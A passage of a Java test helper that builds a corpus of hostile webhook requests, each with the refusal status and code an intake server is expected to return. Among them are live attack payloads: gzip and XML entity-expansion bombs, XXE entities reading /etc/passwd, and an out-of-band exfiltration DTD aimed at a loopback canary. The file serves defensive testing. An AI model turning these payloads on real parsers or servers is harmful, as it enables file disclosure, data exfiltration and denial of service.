package dev.dovetail.runtime.intake;

import static dev.dovetail.runtime.intake.IntakeFixture.ERP_TOKEN;
import static dev.dovetail.runtime.intake.IntakeFixture.SHOP_SECRET;
import static dev.dovetail.runtime.intake.IntakeFixture.SIGNATURE_HEADER;
import static dev.dovetail.runtime.intake.IntakeFixture.TIMESTAMP_HEADER;
import static dev.dovetail.runtime.intake.IntakeFixture.TOKEN_HEADER;
import static dev.dovetail.runtime.intake.IntakeFixture.hmacHex;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.GZIPOutputStream;

/**
 * A corpus of malformed and hostile webhook requests against {@link IntakeFixture}'s workspace, each with the
 * 4xx status and refusal code it must get. Built for a given "now" (signatures and timestamps are computed
 * for it) and a loopback canary port (where the XXE cases point; it must receive no connection).
 *
 * <p>The server's HTTP-level test replays the same list: {@code POST /hooks/{system}/{event}} (each segment
 * percent-encoded: names hold spaces, {@code %}, {@code ;} and non-ASCII characters) with
 * {@code request.contentType()} as Content-Type (none when null), the request's headers and body. Load the
 * workspace from {@link IntakeFixture#files()} with {@link IntakeFixture#environment()}.
 */
public final class HostileRequests {

    /**
     * @param name   what the case is, unique in the corpus
     * @param status the status it must be refused with
     * @param code   the {@link RefusalCode} it must be refused with
     */
    public record HostileRequest(String name, WebhookRequest request, int status, String code) {
        @Override
        public String toString() {
            return name;
        }
    }

    /** A valid order body, ASCII only so that every truncation is a syntax error rather than an encoding error. */
    public static final String ORDER = "{\"order\":{\"id\":\"SO-1001\",\"customer\":\"ACME\",\"lines\":[{\"sku\":\"A-1\",\"qty\":2,\"price\":12.50}],"
            + "\"total\":25.00,\"paid\":false,\"note\":null}}";
    public static final String INVOICE = "<invoice><number>INV-1</number><amount currency=\"CNY\">12.50</amount></invoice>";
    public static final String FORM = "ticket=T-1&subject=Hello+World";

    private final Instant now;
    private final int canaryPort;
    private final List<HostileRequest> cases = new ArrayList<>();

    private HostileRequests(Instant now, int canaryPort) {
        this.now = now;
        this.canaryPort = canaryPort;
    }

    /** The whole corpus. */
    public static List<HostileRequest> corpus(Instant now, int canaryPort) {
        var corpus = new HostileRequests(now, canaryPort);
        corpus.routing();
        corpus.sizes();
        corpus.contentEncodings();
        corpus.signatures();
        corpus.tokens();
        corpus.contentTypes();
        corpus.json();
        corpus.keys();
        corpus.xml();
        corpus.forms();
        return List.copyOf(corpus.cases);
    }

    // ---------------------------------------------------------------- 404

    private void routing() {
        byte[] body = ORDER.getBytes(UTF_8);
        for (String system : List.of("no-such-system", "SHOP", "shop2", "商店", "x".repeat(300), "shop ", "%2e%2e", "shop;x=1")) {
            add("unknown system " + abbreviate(system), raw(system, "order-placed", "application/json", IntakeFixture.signedHeaders(now, body), body),
                    404, RefusalCode.UNKNOWN_SYSTEM);
        }
        for (String event : List.of("order-cancelled", "ORDER-PLACED", "order_placed", "order-placed ")) {
            add("unknown event '" + event + "'", raw("shop", event, "application/json", IntakeFixture.signedHeaders(now, body), body),
                    404, RefusalCode.UNKNOWN_EVENT);
        }
        add("a scheduled event is not a webhook", raw("shop", "daily-report", "application/json", Map.of(), body), 404, RefusalCode.NOT_A_WEBHOOK);
    }

    // ---------------------------------------------------------------- 413

    private void sizes() {
        byte[] tenMegabytes = jsonOfSize(10 * 1024 * 1024);
        add("10 MB JSON body", raw("shop", "order-placed", "application/json", IntakeFixture.signedHeaders(now, tenMegabytes), tenMegabytes),
                413, RefusalCode.BODY_TOO_LARGE);
        byte[] oneOver = jsonOfSize(1024 * 1024 + 1);
        add("1 MiB + 1 byte JSON body", raw("shop", "order-placed", "application/json", IntakeFixture.signedHeaders(now, oneOver), oneOver),
                413, RefusalCode.BODY_TOO_LARGE);
        add("64 KiB + 1 byte XML body (limit 64KB)", erp("invoice-posted", "application/xml", xmlOfSize(64 * 1024 + 1)), 413, RefusalCode.BODY_TOO_LARGE);
        add("64 KiB + 1 byte form body (limit 64KB)", erp("form-submitted", "application/x-www-form-urlencoded",
                ("ticket=T-1&pad=" + "a".repeat(64 * 1024)).getBytes(UTF_8)), 413, RefusalCode.BODY_TOO_LARGE);

        byte[] bomb = gzip(new byte[16 * 1024 * 1024]);
        add("gzip bomb: " + bomb.length + " bytes inflating to 16 MiB of zeros", gzipped("shop", "order-placed", bomb), 413, RefusalCode.BODY_TOO_LARGE);
        byte[] spaces = new byte[8 * 1024 * 1024];
        java.util.Arrays.fill(spaces, (byte) ' ');
        byte[] jsonBomb = gzip(concat("{\"order\":{\"id\":\"1\"},\"pad\":\"".getBytes(UTF_8), spaces, "\"}".getBytes(UTF_8)));
        add("gzip bomb: JSON inflating to 8 MiB", gzipped("shop", "order-placed", jsonBomb), 413, RefusalCode.BODY_TOO_LARGE);
        add("gzip bomb on a 64KB XML event", gzippedErp(gzip(xmlOfSize(1024 * 1024))), 413, RefusalCode.BODY_TOO_LARGE);
    }

    // ---------------------------------------------------------------- 415 / 400 content encoding

    private void contentEncodings() {
        byte[] body = ORDER.getBytes(UTF_8);
        for (String encoding : List.of("br", "deflate", "compress", "zstd", "gzip, br", "gzip, gzip", "x-unknown")) {
            var headers = new LinkedHashMap<>(IntakeFixture.signedHeaders(now, body));
            headers.put("Content-Encoding", List.of(encoding));
            add("Content-Encoding: " + encoding, raw("shop", "order-placed", "application/json", headers, body), 415,
                    RefusalCode.UNSUPPORTED_CONTENT_ENCODING);
        }
        add("Content-Encoding gzip on a plain body", gzipped("shop", "order-placed", body), 400, RefusalCode.MALFORMED_GZIP);
        byte[] truncated = java.util.Arrays.copyOf(gzip(body), gzip(body).length / 2);
        add("truncated gzip body", gzipped("shop", "order-placed", truncated), 400, RefusalCode.MALFORMED_GZIP);
    }

    // ---------------------------------------------------------------- 401 signatures

    private void signatures() {
        byte[] body = ORDER.getBytes(UTF_8);
        String ts = Long.toString(now.getEpochSecond());
        String good = "sha256=" + hmacHex(SHOP_SECRET, ts, body);

        add("signature header missing", shop(body, Map.of(TIMESTAMP_HEADER, List.of(ts))), 401, RefusalCode.SIGNATURE_MISSING);
        add("signature header empty", shop(body, Map.of(SIGNATURE_HEADER, List.of(""), TIMESTAMP_HEADER, List.of(ts))), 401,
                RefusalCode.SIGNATURE_MISSING);
        add("timestamp header missing", shop(body, Map.of(SIGNATURE_HEADER, List.of(good))), 401, RefusalCode.TIMESTAMP_MISSING);
        add("no headers at all", shop(body, Map.of()), 401, RefusalCode.SIGNATURE_MISSING);
        add("signed with the wrong secret", signedShop(body, "wrong-secret", ts), 401, RefusalCode.SIGNATURE_INVALID);
        add("signed with the secret's first half", signedShop(body, SHOP_SECRET.substring(0, 20), ts), 401, RefusalCode.SIGNATURE_INVALID);
        add("signature of another body", shop(body, sig("sha256=" + hmacHex(SHOP_SECRET, ts, "{}".getBytes(UTF_8)), ts)), 401,
                RefusalCode.SIGNATURE_INVALID);
        add("signature for another timestamp", shop(body, sig("sha256=" + hmacHex(SHOP_SECRET, Long.toString(now.getEpochSecond() - 1), body), ts)),
                401, RefusalCode.SIGNATURE_INVALID);
        add("signature over the body alone (no timestamp)", shop(body, sig("sha256=" + hex(IntakeFixture.hmac(SHOP_SECRET, body)), ts)), 401,
                RefusalCode.SIGNATURE_INVALID);
        add("signature truncated to 16 bytes", shop(body, sig(good.substring(0, 7 + 32), ts)), 401, RefusalCode.SIGNATURE_INVALID);
        add("signature not hex", shop(body, sig("sha256=" + "z".repeat(64), ts)), 401, RefusalCode.SIGNATURE_INVALID);
        add("signature prefix only", shop(body, sig("sha256=", ts)), 401, RefusalCode.SIGNATURE_INVALID);
        add("signature in base64 where hex is expected", shop(body,
                sig("sha256=" + Base64.getEncoder().encodeToString(IntakeFixture.hmac(SHOP_SECRET, (ts + ".").getBytes(UTF_8), body)), ts)),
                401, RefusalCode.SIGNATURE_INVALID);
        add("twenty wrong signatures", shop(body, sig(String.join(" ", java.util.Collections.nCopies(20, "sha256=" + "ab".repeat(32))), ts)),
                401, RefusalCode.SIGNATURE_INVALID);
        add("right signature after eight wrong ones", shop(body, sig(String.join(",", java.util.Collections.nCopies(8, "sha256=" + "ab".repeat(32)))
                + "," + good, ts)), 401, RefusalCode.SIGNATURE_INVALID);
        add("hex signature to a base64 event", raw("shop", "order-updated", "application/json",
                sig(hmacHex(SHOP_SECRET, ts, "{\"id\":1,\"version\":1}".getBytes(UTF_8)), ts), "{\"id\":1,\"version\":1}".getBytes(UTF_8)),
                401, RefusalCode.SIGNATURE_INVALID);

        for (String bad : List.of("yesterday", "2026-01-01T00:00:00Z", "-5", "99999999999999999999", "1700000000.5", "0x65", "1e9", " ")) {
            int expected = bad.isBlank() ? 0 : 1;
            add("timestamp '" + bad + "'", shop(body, Map.of(SIGNATURE_HEADER, List.of(good), TIMESTAMP_HEADER, List.of(bad))), 401,
                    expected == 0 ? RefusalCode.TIMESTAMP_MISSING : RefusalCode.TIMESTAMP_INVALID);
        }
        for (long offset : List.of(-301L, 301L, -86_400L, 86_400L, -now.getEpochSecond() + 1, -3600L)) {
            String stale = Long.toString(now.getEpochSecond() + offset);
            add("timestamp " + (offset > 0 ? "+" : "") + offset + " s", signedShop(body, SHOP_SECRET, stale), 401, RefusalCode.STALE);
        }
        String staleMillis = Long.toString(now.minus(Duration.ofSeconds(301)).toEpochMilli());
        add("timestamp in milliseconds, -301 s", signedShop(body, SHOP_SECRET, staleMillis), 401, RefusalCode.STALE);
        add("timestamp at the largest long", signedShop(body, SHOP_SECRET, Long.toString(Long.MAX_VALUE)), 401, RefusalCode.STALE);
        add("timestamp of all zeros", signedShop(body, SHOP_SECRET, "0000000000"), 401, RefusalCode.STALE);

        // one-bit flips: in the body (any bit), in the signature and the timestamp (low bits, so headers stay printable)
        for (int i = 0; i < 24; i++) {
            int at = (int) ((long) i * (body.length - 1) / 23);
            byte[] flipped = body.clone();
            flipped[at] ^= (byte) (1 << (i % 8));
            add("body bit " + (i % 8) + " flipped at byte " + at, shop(flipped, sig(good, ts)), 401, RefusalCode.SIGNATURE_INVALID);
        }
        for (int i = 0; i < 20; i++) {
            int at = 7 + (int) ((long) i * 63 / 19);
            char[] chars = good.toCharArray();
            chars[at] ^= (char) (1 << (i % 4));
            add("signature bit " + (i % 4) + " flipped at char " + at, shop(body, sig(new String(chars), ts)), 401, RefusalCode.SIGNATURE_INVALID);
        }
        for (int i = 0; i < ts.length(); i++) {
            char[] chars = ts.toCharArray();
            chars[i] ^= (char) (1 << (i % 4));
            String flipped = new String(chars);
            boolean digits = flipped.chars().allMatch(Character::isDigit);
            add("timestamp bit " + (i % 4) + " flipped at char " + i, shop(body, sig(good, flipped)), 401,
                    digits ? RefusalCode.SIGNATURE_INVALID : RefusalCode.TIMESTAMP_INVALID);
        }

        byte[] hubBody = "{\"id\":\"H-1\"}".getBytes(UTF_8);
        add("GitHub-style signature missing", raw("open", "legacy-hook", "application/json", Map.of(), hubBody), 401, RefusalCode.SIGNATURE_MISSING);
        add("GitHub-style signature wrong", raw("open", "legacy-hook", "application/json",
                Map.of(IntakeFixture.HUB_SIGNATURE_HEADER, List.of("sha256=" + hex(IntakeFixture.hmac("other", hubBody)))), hubBody),
                401, RefusalCode.SIGNATURE_INVALID);
    }

    // ---------------------------------------------------------------- 401 tokens

    private void tokens() {
        byte[] body = INVOICE.getBytes(UTF_8);
        add("token header missing", raw("erp", "invoice-posted", "application/xml", Map.of(), body), 401, RefusalCode.TOKEN_MISSING);
        add("token header empty", raw("erp", "invoice-posted", "application/xml", Map.of(TOKEN_HEADER, List.of("")), body), 401, RefusalCode.TOKEN_MISSING);
        for (String wrong : List.of("wrong", ERP_TOKEN.substring(0, ERP_TOKEN.length() / 2), ERP_TOKEN + "x", ERP_TOKEN.toUpperCase(),
                "Bearer " + ERP_TOKEN, ERP_TOKEN.replace('-', '_'))) {
            add("token " + abbreviate(wrong), raw("erp", "invoice-posted", "application/xml", Map.of(TOKEN_HEADER, List.of(wrong)), body), 401,
                    RefusalCode.TOKEN_INVALID);
        }
        add("token in another header", raw("erp", "invoice-posted", "application/xml", Map.of("X-Token", List.of(ERP_TOKEN)), body), 401,
                RefusalCode.TOKEN_MISSING);
    }

    // ---------------------------------------------------------------- 415 content types

    private void contentTypes() {
        byte[] body = ORDER.getBytes(UTF_8);
        add("no Content-Type", signedOrder(body, null), 415, RefusalCode.UNSUPPORTED_CONTENT_TYPE);
        for (String type : List.of("text/plain", "application/octet-stream", "multipart/form-data; boundary=x", "application/json; charset=utf-16",
                "application/json; charset=iso-8859-1", "application/json; charset=no-such-charset", "image/png", "application/json-seq",
                "json", "application/", ";charset=utf-8", "application/json; charset", "application/javascript", "text/html",
                "application/json; charset=\"utf-8\"; charset=utf-8", "application/yaml", "*/*")) {
            add("Content-Type '" + type + "'", signedOrder(body, type), 415, RefusalCode.UNSUPPORTED_CONTENT_TYPE);
        }
        add("XML with an unknown charset", erp("invoice-posted", "application/xml; charset=bogus-8", INVOICE.getBytes(UTF_8)), 415,
                RefusalCode.UNSUPPORTED_CONTENT_TYPE);
        add("form with an unknown charset", erp("form-submitted", "application/x-www-form-urlencoded; charset=x-unknown", FORM.getBytes(UTF_8)), 415,
                RefusalCode.UNSUPPORTED_CONTENT_TYPE);
    }

    // ---------------------------------------------------------------- 400 JSON

    private void json() {
        json("empty body", "", RefusalCode.EMPTY_BODY);
        json("whitespace only", " \r\n\t ", RefusalCode.EMPTY_BODY);
        // truncations of a valid document at evenly spread lengths
        byte[] order = ORDER.getBytes(UTF_8);
        for (int i = 0; i < 32; i++) {
            int length = 1 + (int) ((long) i * (order.length - 2) / 31);
            json("truncated JSON at " + length + " of " + order.length + " bytes", java.util.Arrays.copyOf(order, length), RefusalCode.MALFORMED_JSON);
        }
        json("byte order mark", concat(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, order), RefusalCode.INVALID_ENCODING);
        json("UTF-16LE JSON", ORDER.getBytes(Charset.forName("UTF-16LE")), RefusalCode.INVALID_ENCODING);
        json("UTF-16 JSON with BOM", ORDER.getBytes(Charset.forName("UTF-16")), RefusalCode.INVALID_ENCODING);
        json("UTF-32 JSON", ORDER.getBytes(Charset.forName("UTF-32")), RefusalCode.INVALID_ENCODING);
        json("raw NUL in a string", concat("{\"order\":{\"id\":\"a".getBytes(UTF_8), new byte[] {0}, "\"}}".getBytes(UTF_8)), RefusalCode.INVALID_ENCODING);
        int[][] invalidUtf8 = {{0x80}, {0xC0, 0x80}, {0xC1, 0xBF}, {0xE0, 0x80, 0x80}, {0xED, 0xA0, 0x80}, {0xF4, 0x90, 0x80, 0x80},
                {0xF5, 0x80, 0x80, 0x80}, {0xFF}, {0xFE}, {0xE4, 0xB8}, {0xC3}, {0xF0, 0x9F, 0x98}};
        for (int[] sequence : invalidUtf8) {
            byte[] bytes = new byte[sequence.length];
            for (int i = 0; i < sequence.length; i++) bytes[i] = (byte) sequence[i];
            json("invalid UTF-8 " + hex(bytes) + " in a string", concat("{\"order\":{\"id\":\"a".getBytes(UTF_8), bytes, "\"}}".getBytes(UTF_8)),
                    RefusalCode.INVALID_ENCODING);
        }
        json("latin-1 byte in a string", "{\"order\":{\"id\":\"caf\u00e9\"}}".getBytes(Charset.forName("ISO-8859-1")), RefusalCode.INVALID_ENCODING);
        json("duplicate top-level key", "{\"order\":{\"id\":\"1\"},\"order\":{\"id\":\"2\"}}", RefusalCode.MALFORMED_JSON);
        json("duplicate nested key", "{\"order\":{\"id\":\"1\",\"id\":\"2\"}}", RefusalCode.MALFORMED_JSON);
        json("duplicate key with another type", "{\"order\":{\"id\":\"1\",\"id\":{\"x\":1}}}", RefusalCode.MALFORMED_JSON);
        json("nesting depth 10,000 (arrays)", "[".repeat(10_000) + "]".repeat(10_000), RefusalCode.TOO_DEEP);
        json("nesting depth 10,000 (objects)", "{\"a\":".repeat(10_000) + "1" + "}".repeat(10_000), RefusalCode.TOO_DEEP);
        json("nesting depth 65", "{\"order\":{\"id\":\"1\"},\"deep\":" + "[".repeat(64) + "]".repeat(64) + "}", RefusalCode.TOO_DEEP);
        json("unclosed nesting depth 100,000", "[".repeat(100_000), RefusalCode.TOO_DEEP);
        json("NaN", "{\"order\":{\"id\":\"1\"},\"total\":NaN}", RefusalCode.MALFORMED_JSON);
        json("Infinity", "{\"order\":{\"id\":\"1\"},\"total\":Infinity}", RefusalCode.MALFORMED_JSON);
        json("-Infinity", "{\"order\":{\"id\":\"1\"},\"total\":-Infinity}", RefusalCode.MALFORMED_JSON);
        json("exponent 1e999999999", "{\"order\":{\"id\":\"1\"},\"total\":1e999999999}", RefusalCode.LIMIT_EXCEEDED);
        json("exponent -1e-999999999", "{\"order\":{\"id\":\"1\"},\"total\":-1e-999999999}", RefusalCode.LIMIT_EXCEEDED);
        json("number of 1,000 digits", "{\"order\":{\"id\":\"1\"},\"total\":" + "9".repeat(1000) + "}", RefusalCode.LIMIT_EXCEEDED);
        json("number of 101 digits", "{\"order\":{\"id\":\"1\"},\"total\":1" + "0".repeat(100) + "}", RefusalCode.LIMIT_EXCEEDED);
        json("decimal of 500 digits", "{\"order\":{\"id\":\"1\"},\"total\":0." + "3".repeat(500) + "}", RefusalCode.LIMIT_EXCEEDED);
        for (String number : List.of("007", "0x1F", "+1", ".5", "1.", "1e", "--1", "1_000", "0.0.1", "١٢")) {
            json("number " + number, "{\"order\":{\"id\":\"1\"},\"total\":" + number + "}", RefusalCode.MALFORMED_JSON);
        }
        String[][] syntax = {
            {"single quotes", "{'order':{'id':'1'}}"},
            {"unquoted key", "{order:{id:\"1\"}}"},
            {"line comment", "// hi\n{\"order\":{\"id\":\"1\"}}"},
            {"block comment", "{\"order\":{\"id\":\"1\"}/* c */}"},
            {"hash comment", "# c\n{\"order\":{\"id\":\"1\"}}"},
            {"trailing comma in object", "{\"order\":{\"id\":\"1\",}}"},
            {"trailing comma in array", "{\"order\":{\"id\":\"1\",\"l\":[1,2,]}}"},
            {"trailing garbage", ORDER + "x"},
            {"trailing second document", ORDER + "{}"},
            {"trailing array", ORDER + "[]"},
            {"scalar root number", "42"},
            {"scalar root string", "\"SO-1001\""},
            {"scalar root null", "null"},
            {"scalar root true", "true"},
            {"unterminated string", "{\"order\":{\"id\":\"1}}"},
            {"raw tab in a string", "{\"order\":{\"id\":\"a\tb\"}}"},
            {"raw newline in a string", "{\"order\":{\"id\":\"a\nb\"}}"},
            {"invalid escape", "{\"order\":{\"id\":\"\\x41\"}}"},
            {"invalid unicode escape", "{\"order\":{\"id\":\"\\u12G4\"}}"},
            {"missing colon", "{\"order\" {\"id\":\"1\"}}"},
            {"missing comma", "{\"order\":{\"id\":\"1\" \"x\":2}}"},
            {"unclosed array", "{\"order\":{\"id\":\"1\",\"l\":[1,2}}"},
            {"extra closing brace", ORDER + "}"},
            {"number as key", "{1:{\"id\":\"1\"}}"},
            {"undefined", "{\"order\":{\"id\":undefined}}"},
            {"Python True", "{\"order\":{\"id\":\"1\",\"paid\":True}}"},
            {"JavaScript function", "{\"order\":{\"id\":(function(){return 1})()}}"},
            {"empty key and value only", "{:}"},
            {"bare brackets mix", "[}"},
        };
        for (String[] c : syntax) json(c[0], c[1], RefusalCode.MALFORMED_JSON);
        json("unpaired high surrogate escape", "{\"order\":{\"id\":\"\\ud800\"}}", RefusalCode.INVALID_ENCODING);
        json("unpaired low surrogate escape", "{\"order\":{\"id\":\"\\udc00x\"}}", RefusalCode.INVALID_ENCODING);
        json("unpaired surrogate escape in a key", "{\"order\":{\"id\":\"1\",\"\\ud83d\":1}}", RefusalCode.MALFORMED_JSON);
        json("XML sent as JSON", INVOICE, RefusalCode.MALFORMED_JSON);
        json("form sent as JSON", FORM, RefusalCode.MALFORMED_JSON);
    }

    // ---------------------------------------------------------------- 422 keys

    private void keys() {
        String[][] keyless = {
            {"no order at all", "{\"id\":\"SO-1\"}", RefusalCode.KEY_MISSING},
            {"order without id", "{\"order\":{\"number\":\"SO-1\"}}", RefusalCode.KEY_MISSING},
            {"order id null", "{\"order\":{\"id\":null}}", RefusalCode.KEY_MISSING},
            {"order id empty", "{\"order\":{\"id\":\"\"}}", RefusalCode.KEY_MISSING},
            {"order id blank", "{\"order\":{\"id\":\"  \"}}", RefusalCode.KEY_MISSING},
            {"order id an object", "{\"order\":{\"id\":{\"value\":\"1\"}}}", RefusalCode.KEY_INVALID},
            {"order id a list", "{\"order\":{\"id\":[\"1\",\"2\"]}}", RefusalCode.KEY_INVALID},
            {"order id of 501 characters", "{\"order\":{\"id\":\"" + "k".repeat(501) + "\"}}", RefusalCode.KEY_INVALID},
            {"order a text", "{\"order\":\"SO-1\"}", RefusalCode.KEY_MISSING},
            {"orders as a list (JSONata gives a list of ids)", "{\"order\":[{\"id\":\"1\"},{\"id\":\"2\"}]}", RefusalCode.KEY_INVALID},
        };
        for (String[] c : keyless) {
            add("key: " + c[0], signedOrder(c[1].getBytes(UTF_8), "application/json"), 422, c[2]);
        }
        add("version missing", signedBase64("order-updated", "{\"id\":\"1\"}".getBytes(UTF_8)), 422, RefusalCode.VERSION_MISSING);
        add("version an object", signedBase64("order-updated", "{\"id\":\"1\",\"version\":{\"n\":1}}".getBytes(UTF_8)), 422, RefusalCode.VERSION_INVALID);
        add("version empty", signedBase64("order-updated", "{\"id\":\"1\",\"version\":\"\"}".getBytes(UTF_8)), 422, RefusalCode.VERSION_MISSING);
        add("XML without the key element", erp("invoice-posted", "application/xml", "<invoice><amount>1</amount></invoice>".getBytes(UTF_8)),
                422, RefusalCode.KEY_MISSING);
        add("XML with another root", erp("invoice-posted", "application/xml", "<bill><number>1</number></bill>".getBytes(UTF_8)),
                422, RefusalCode.KEY_MISSING);
        add("XML with the key element twice", erp("invoice-posted", "application/xml",
                "<invoice><number>1</number><number>2</number></invoice>".getBytes(UTF_8)), 422, RefusalCode.KEY_INVALID);
        add("form without the key field", erp("form-submitted", "application/x-www-form-urlencoded", "subject=hi".getBytes(UTF_8)),
                422, RefusalCode.KEY_MISSING);
        add("form with the key field twice", erp("form-submitted", "application/x-www-form-urlencoded", "ticket=1&ticket=2".getBytes(UTF_8)),
                422, RefusalCode.KEY_INVALID);
        add("form with an empty key field", erp("form-submitted", "application/x-www-form-urlencoded", "ticket=&subject=x".getBytes(UTF_8)),
                422, RefusalCode.KEY_MISSING);
    }

    // ---------------------------------------------------------------- 400 XML

    private void xml() {
        String canary = "http://127.0.0.1:" + canaryPort;
        xml("DOCTYPE", "<!DOCTYPE invoice><invoice><number>1</number></invoice>", RefusalCode.XML_DOCTYPE);
        xml("billion laughs", billionLaughs(), RefusalCode.XML_DOCTYPE);
        xml("quadratic blowup", "<?xml version=\"1.0\"?><!DOCTYPE q [<!ENTITY a \"" + "a".repeat(20_000) + "\">]><invoice><number>"
                + "&a;".repeat(2_000) + "</number></invoice>", RefusalCode.XML_DOCTYPE);
        xml("XXE reading a local file", "<?xml version=\"1.0\"?><!DOCTYPE invoice [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"
                + "<invoice><number>&xxe;</number></invoice>", RefusalCode.XML_DOCTYPE);
        xml("XXE calling the canary", "<?xml version=\"1.0\"?><!DOCTYPE invoice [<!ENTITY xxe SYSTEM \"" + canary + "/entity\">]>"
                + "<invoice><number>&xxe;</number></invoice>", RefusalCode.XML_DOCTYPE);
        xml("external DTD on the canary", "<?xml version=\"1.0\"?><!DOCTYPE invoice SYSTEM \"" + canary + "/dtd\">"
                + "<invoice><number>1</number></invoice>", RefusalCode.XML_DOCTYPE);
        xml("public external DTD on the canary", "<?xml version=\"1.0\"?><!DOCTYPE invoice PUBLIC \"-//X//Y//EN\" \"" + canary + "/public\">"
                + "<invoice><number>1</number></invoice>", RefusalCode.XML_DOCTYPE);
        xml("parameter entity calling the canary", "<?xml version=\"1.0\"?><!DOCTYPE invoice [<!ENTITY % p SYSTEM \"" + canary + "/param\"> %p;]>"
                + "<invoice><number>1</number></invoice>", RefusalCode.XML_DOCTYPE);
        xml("out-of-band exfiltration pattern", "<?xml version=\"1.0\"?><!DOCTYPE invoice [<!ENTITY % file SYSTEM \"file:///etc/hostname\">"
                + "<!ENTITY % dtd SYSTEM \"" + canary + "/oob.dtd\"> %dtd;]><invoice><number>1</number></invoice>", RefusalCode.XML_DOCTYPE);
        xml("DOCTYPE after a comment", "<!-- c --><!DOCTYPE invoice [<!ENTITY e \"x\">]><invoice><number>&e;</number></invoice>", RefusalCode.XML_DOCTYPE);
        String[][] malformed = {
            {"unclosed root", "<invoice><number>1</number>"},
            {"mismatched tags", "<invoice><number>1</amount></invoice>"},
            {"two roots", INVOICE + INVOICE},
            {"text after the root", INVOICE + "tail"},
            {"text before the root", "head" + INVOICE},
            {"character reference to NUL", "<invoice><number>&#0;</number></invoice>"},
            {"undeclared entity", "<invoice><number>&nope;</number></invoice>"},
            {"XML declaration only", "<?xml version=\"1.0\"?>"},
            {"unquoted attribute", "<invoice><amount currency=CNY>1</amount><number>1</number></invoice>"},
            {"duplicate attribute", "<invoice><amount c=\"a\" c=\"b\">1</amount><number>1</number></invoice>"},
            {"'<' in text", "<invoice><number>1 < 2</number></invoice>"},
            {"unclosed comment", "<invoice><!-- <number>1</number></invoice>"},
            {"unclosed CDATA", "<invoice><number><![CDATA[1</number></invoice>"},
            {"XML declaration not first", " <?xml version=\"1.0\"?>" + INVOICE},
            {"XML version 9", "<?xml version=\"9.0\"?>" + INVOICE},
            {"JSON sent as XML", ORDER},
            {"unbound namespace prefix", "<x:invoice><number>1</number></x:invoice>"},
        };
        for (String[] c : malformed) xml(c[0], c[1], RefusalCode.MALFORMED_XML);
        xml("nesting depth 5,000", "<invoice>" + "<a>".repeat(5_000) + "</a>".repeat(5_000) + "<number>1</number></invoice>", RefusalCode.TOO_DEEP);
        xml("unclosed nesting depth 20,000", "<invoice>" + "<a>".repeat(20_000), RefusalCode.TOO_DEEP);
        xml("nesting depth 65", "<invoice>" + "<a>".repeat(64) + "</a>".repeat(64) + "<number>1</number></invoice>", RefusalCode.TOO_DEEP);
        add("XML empty body", erp("invoice-posted", "application/xml", new byte[0]), 400, RefusalCode.EMPTY_BODY);
        add("XML with invalid UTF-8", erp("invoice-posted", "application/xml",
                concat("<invoice><number>".getBytes(UTF_8), new byte[] {(byte) 0xFF}, "</number></invoice>".getBytes(UTF_8))),
                400, RefusalCode.INVALID_ENCODING);
    }

    // ---------------------------------------------------------------- 400 forms

    private void forms() {
        String[][] malformed = {
            {"bad escape", "ticket=T%G1", RefusalCode.MALFORMED_FORM},
            {"truncated escape", "ticket=T%2", RefusalCode.MALFORMED_FORM},
            {"trailing percent", "ticket=T%", RefusalCode.MALFORMED_FORM},
            {"field without a name", "=x&ticket=T", RefusalCode.MALFORMED_FORM},
            {"raw newline", "ticket=T\n1", RefusalCode.MALFORMED_FORM},
            {"invalid UTF-8 after decoding", "ticket=%FF", RefusalCode.INVALID_ENCODING},
            {"overlong UTF-8 after decoding", "ticket=%C0%80", RefusalCode.INVALID_ENCODING},
            {"surrogate in UTF-8 after decoding", "ticket=%ED%A0%80", RefusalCode.INVALID_ENCODING},
            {"separators only", "&&&", RefusalCode.EMPTY_BODY},
            {"payload with invalid JSON", "ticket=T&payload=%7Bbad", RefusalCode.MALFORMED_JSON},
            {"payload with duplicate keys", "ticket=T&payload=%7B%22a%22%3A1%2C%22a%22%3A2%7D", RefusalCode.MALFORMED_JSON},
            {"payload nested 1,000 deep", "ticket=T&payload=" + "%5B".repeat(1_000) + "%5D".repeat(1_000), RefusalCode.TOO_DEEP},
        };
        for (String[] c : malformed) {
            add("form " + c[0], erp("form-submitted", "application/x-www-form-urlencoded", c[1].getBytes(UTF_8)), 400, c[2]);
        }
        add("form with a raw non-ASCII byte", erp("form-submitted", "application/x-www-form-urlencoded",
                concat("ticket=T".getBytes(UTF_8), new byte[] {(byte) 0xE4, (byte) 0xB8, (byte) 0xAD})), 400, RefusalCode.MALFORMED_FORM);
    }

    // ---------------------------------------------------------------- builders

    private void add(String name, WebhookRequest request, int status, String code) {
        if (cases.stream().anyMatch(c -> c.name().equals(name))) throw new IllegalStateException("duplicate case name: " + name);
        cases.add(new HostileRequest(name, request, status, code));
    }

    private void json(String name, String body, String code) {
        json(name, body.getBytes(UTF_8), code);
    }

    private void json(String name, byte[] body, String code) {
        add("JSON " + name, signedOrder(body, "application/json"), 400, code);
    }

    private void xml(String name, String body, String code) {
        add("XML " + name, erp("invoice-posted", "application/xml", body.getBytes(UTF_8)), 400, code);
    }

    private WebhookRequest raw(String system, String event, String contentType, Map<String, List<String>> headers, byte[] body) {
        return IntakeFixture.request(system, event, contentType, headers, body, now);
    }

    private WebhookRequest signedOrder(byte[] body, String contentType) {
        return raw("shop", "order-placed", contentType, IntakeFixture.signedHeaders(now, body), body);
    }

    private WebhookRequest signedBase64(String event, byte[] body) {
        String ts = Long.toString(now.getEpochSecond());
        String signature = Base64.getEncoder().encodeToString(IntakeFixture.hmac(SHOP_SECRET, (ts + ".").getBytes(UTF_8), body));
        return raw("shop", event, "application/json", Map.of(SIGNATURE_HEADER, List.of(signature), TIMESTAMP_HEADER, List.of(ts)), body);
    }

    private WebhookRequest shop(byte[] body, Map<String, List<String>> headers) {
        return raw("shop", "order-placed", "application/json", headers, body);
    }

    private WebhookRequest signedShop(byte[] body, String secret, String timestamp) {
        return shop(body, sig("sha256=" + hmacHex(secret, timestamp, body), timestamp));
    }

    private static Map<String, List<String>> sig(String signature, String timestamp) {
        return Map.of(SIGNATURE_HEADER, List.of(signature), TIMESTAMP_HEADER, List.of(timestamp));
    }

    private WebhookRequest erp(String event, String contentType, byte[] body) {
